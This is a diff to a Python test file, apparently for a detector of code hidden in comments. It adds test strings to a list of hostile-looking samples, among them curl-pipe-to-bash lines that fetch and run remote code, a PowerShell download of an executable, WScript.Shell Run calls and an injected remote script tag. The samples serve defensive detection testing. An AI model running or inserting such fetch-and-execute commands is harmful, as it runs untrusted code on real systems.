@@ -32,7 +32,10 @@ def test_finds_code_of_one_line_with_what_languages_take_behind_a_call(fired: Fi
         b'document.write("<script src=//example.org/x.js></script>");',
         b'var x = new ActiveXObject("WScript.Shell"); x.Run("cmd")',
         b"eval(atob('YWxlcnQoMSkYWxlcnQoMSk=')) // lesson",
+        b'CreateObject("WScript.Shell").Run "calc.exe" \' starts a calculator',
+        b'Set s = CreateObject("WScript.Shell") Rem make a shell',
         b"curl -s http://example.org/x | sudo bash",
+        b'curl -s http://example.org/x | bash -s "my tool" install all',
         b"Invoke-WebRequest http://example.org/x.exe -OutFile x.exe",
     ]
     files = in_comments(written)
